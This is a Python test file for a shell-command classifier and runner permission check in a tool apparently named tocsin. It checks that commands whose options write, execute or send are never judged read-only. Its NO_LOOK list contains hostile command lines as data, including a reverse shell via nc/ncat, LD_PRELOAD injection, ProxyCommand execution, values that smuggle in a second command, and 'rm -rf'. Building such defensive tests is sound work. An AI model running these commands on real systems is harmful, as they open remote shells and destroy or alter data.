"""Commands that look like a look and are none: one option, word or variable makes a program that reads do more."""

from __future__ import annotations

import pytest

from tocsin.app.envelopes import Errand
from tocsin.app.ports import Job
from tocsin.runbook.bash import parse
from tocsin.runbook.effects import judge
from tocsin.runbook.programs import acting_of, tables
from tocsin.runner.permitting import Permits

NO_LOOK = [
    "npm audit fix",
    "pnpm audit --fix",
    "npm test --script-shell=/tmp/x",
    "yq -i '.a=1' a.yml",
    "yq -ri '.a=1' a.yml",
    "ss -K dst 192.0.2.4",
    "ss -tnK dst 192.0.2.4",
    "ss --kil dst 192.0.2.4",
    "redis-cli SLOWLOG RESET",
    "redis-cli LATENCY RESET",
    "redis-cli MEMORY PURGE",
    "redis-cli --rdb dump.rdb",
    "sed -n '1e reboot' /etc/hosts",
    "sed -n 'w out' in",
    "sed 's/a/b/w out' in",
    "sed 's/a/reboot/e' in",
    "sed -n -e p -e '1e reboot' in",
    "sed -f script.sed in",
    "sed --in-pl s/a/b/ in",
    "awk -f script.awk in",
    "awk -F : 'BEGIN { system(\"reboot\") }'",
    "awk '{ print > $1 }' in",
    "awk '{ print | $1 }' in",
    "awk -i inplace '{ print }' in",
    "find / -name x -fprint out",
    "find / -fprintf out %p",
    "find / -fls out",
    "find . -exec grep x {} ';' -exec rm {} ';'",
    "find . -okdir rm {} ';'",
    "git log --output=out",
    "git diff --outp=out",
    "git show HEAD --ext-diff",
    "git fetch --upload-pack=/tmp/x origin",
    "git remote prune origin",
    "git reflog expire --all",
    "git grep -n x --open-files-in-pager=reboot",
    "rg --pre reboot x",
    "rg --hostname-bin reboot x",
    "tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=reboot",
    "tar -tf a.tar --to-command=reboot",
    "tar -I /tmp/x -tf a.tar",
    "tar tf a.tar --use-compress-prog=/tmp/x",
    "tar -tf a.tar -x",
    "nc -e sh 192.0.2.4 1",
    "ncat --sh-exec reboot 192.0.2.4 1",
    "nc -lk 4444",
    "echo flush_all | nc cache 11211",
    "make status SHELL=/tmp/x",
    "make status .SHELLFLAGS=-x",
    "make -f other.mk status",
    "make status -C /tmp/x",
    "make status --eval='status: ; reboot'",
    "make logs 'service=api; reboot'",
    "make logs 'service=api -C /'",
    "make status 'x=$(shell reboot)'",
    "make status deploy",
    "sort --compress-program=reboot -S1 in",
    "sort -o out in",
    "sort -uo out in",
    "sort --outp out in",
    "uniq in out",
    "xxd -r in out",
    "tcpdump -z reboot -G1 -w out",
    "tcpdump -nw out -c 1",
    "curl -K other.cfg https://example.org/health",
    "curl -sK other.cfg https://example.org/health",
    "curl -sX POST https://example.org/restart",
    "curl -sXDELETE https://example.org/orders/1",
    "curl --reque DELETE https://example.org/orders/1",
    "curl -da=b https://example.org/orders",
    "curl -ssd a=b https://example.org/orders",
    "curl -o/etc/motd https://example.org/a",
    "curl -o /dev/null https://example.org/a -o out https://example.org/b",
    "curl -D out https://example.org/a",
    "curl gopher://cache:6379/_FLUSHALL",
    "curl -Q 'DELE a' ftp://example.org/",
    "wget -qO- --use-askpass=reboot https://example.org/",
    "wget -o out -O- https://example.org/",
    "dmesg -c",
    "dmesg -C",
    "dmesg -Tc",
    "dmesg --read-cl",
    "hostname web-1",
    "file -C -m magic",
    "journalctl --vac=1d",
    "journalctl --rot",
    "history -c",
    "timedatectl set-time 12:00",
    "loginctl terminate-user ops",
    "amtool silence add alertname=X",
    "amtool silence expire 4f2",
    "kcat -P -b k -t orders",
    "postqueue -f",
    "smartctl -t long /dev/sda",
    "ethtool -s eth0 speed 100",
    "nvidia-smi --gpu-reset",
    "pidstat -e reboot",
    "sar -o out 1 1",
    "mysqladmin status shutdown",
    "ip addr add 192.0.2.4/24 dev eth0",
    "ip route del default",
    "ip r d default",
    "ip neigh flush all",
    "ip -batch list",
    "iptables -L -Z",
    "ipconfig /release",
    "strace rm -rf /srv",
    "pg_dump -f out shop",
    "helm template x --post-renderer /tmp/x",
    "terraform plan -out=plan.bin",
    "terraform fmt",
    "certbot renew --dry-run --pre-hook reboot",
    "restic snapshots --password-command reboot",
    "apt list -o Dpkg::Pre-Invoke::=reboot",
    "docker --config /tmp/x ps",
    "kafka-leader-election.sh --election-type preferred --all-topic-partitions",
    "kafka-consumer-groups.sh --group g --topic t --delete-offsets",
    "kafka-console-consumer.sh --topic t --group g --max-messages 1",
    "aws s3api get-object --bucket b --key k out",
    "aws --region r logs delete-log-group --log-group-name g",
    "aws apigateway test-invoke-method --rest-api-id x",
    "gcloud compute health-checks delete x",
    "gcloud compute snapshots delete x",
    "gcloud logging logs delete x",
    "kill -9 -0",
    "ssh -o ProxyCommand=reboot host df -h",
    "ssh -oLocalCommand=reboot host df -h",
    "ssh -F other.cfg host df -h",
    "bash -lc 'rm -rf /srv/status'",
    "bash -xec 'rm /srv/check'",
    "bash --rcfile /tmp/x check.sh",
    "perl -ne 'check()' in",
    "python3 -Bc 'check()'",
    "perl -pe check in",
    "env -S 'rm /srv/status'",
    "LD_PRELOAD=/tmp/x.so df -h",
    "env GIT_EXTERNAL_DIFF=reboot git diff",
    "PAGER=reboot git log",
    "ssh host 'LD_PRELOAD=/tmp/x.so df'",
    "sudo PATH=/tmp/x df -h",
]  # fmt: skip

LOOKS = [
    "ss -tlnp",
    "npm audit",
    "yq .a a.yml",
    "redis-cli SLOWLOG GET 10",
    "sed -n '10,20p' in",
    "sed -e 's/^ *//;s#a/b#c#g' -e '/^$/d' in",
    "sed -n '/ERROR/,/END/{p;q}' in",
    "awk -F: '{ print $1 }' in",
    "awk -F : -v n=3 'NR > n { print $1 }' in",
    "awk '/error|warn/ { n++ } END { print n }' in",
    "find . -name x -exec grep -l y {} ';' -exec ls {} ';'",
    "git log --oneline -5",
    "rg -n x",
    "tar -tzf a.tgz",
    "tar --list -f a.tar",
    "nc -zv db 5432",
    "make status service=api",
    "make -s logs service=<api|web>",
    "sort -k2 -t o in",
    "sort -to -k1 in",
    "uniq -f 1 in",
    "curl -fsS -m 5 -H 'Accept: x' https://example.org/health",
    "curl -so /dev/null -w '%{http_code}' https://example.org/",
    "curl -sX GET https://example.org/health",
    "dmesg -T",
    "journalctl -u api --since '10 min ago'",
    "ip a",
    "ip -br addr show dev eth0",
    "ip r get 192.0.2.4",
    "iptables -nvL INPUT",
    "tcpdump -c 5 -i zeth0",
    "ssh -o ConnectTimeout=5 -p 22 host df -h",
    "gcloud compute health-checks list",
    "bash -lc 'df -h'",
    "PGPASSWORD=x df -h",
    "AWS_PROFILE=prod aws s3 ls",
]


@pytest.mark.parametrize("text", NO_LOOK)
def test_an_option_that_acts_makes_a_look_more_than_one(text: str) -> None:
    """What writes, runs, sends, loads or changes by one of its words is never judged to only read (R18)."""
    assert judge(text).effect.value != "read_only"


@pytest.mark.parametrize("text", LOOKS)
def test_a_look_stays_a_look(text: str) -> None:
    """Options that only say what is shown, and values that look like options, are no reason to ask."""
    found = judge(text)
    assert found.effect.value == "read_only", found.reason


@pytest.mark.parametrize("text", [text for text in NO_LOOK if not parse(text).needs_shell])
def test_a_runner_that_may_only_look_refuses_it_whatever_the_server_says(text: str) -> None:
    """The runner reads the words itself: a server that calls them read-only is not believed."""
    errand = Errand(1, "a", "r", "o", "read_only", Job("x", tuple(parse(text).pipeline)))
    assert Permits().why_not(errand)


def test_whoever_adds_a_program_that_reads_says_which_of_its_options_act() -> None:
    """Every program that is taken for reading by its name alone has a line in the table of acting options."""
    assert [name for name in sorted(tables("simple")["read"]) if acting_of(name) is None] == []
